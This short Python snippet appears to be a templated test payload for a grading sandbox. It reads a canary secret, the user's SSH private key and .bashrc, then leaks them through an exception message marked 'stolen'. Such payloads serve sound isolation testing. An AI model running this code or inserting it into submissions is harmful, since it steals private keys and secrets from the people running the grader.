# Read the instructor's files and show them in the report (an exception's message).
_found = []
for _path in ("{CANARY}/secret.txt", "{HOME}/.ssh/id_rsa", "{HOME}/.bashrc"):
    try:
        _found.append(open(_path).read())
    except OSError as _exc:
        _found.append(f"{_path}: {type(_exc).__name__}")
raise RuntimeError("stolen: " + " | ".join(_found))
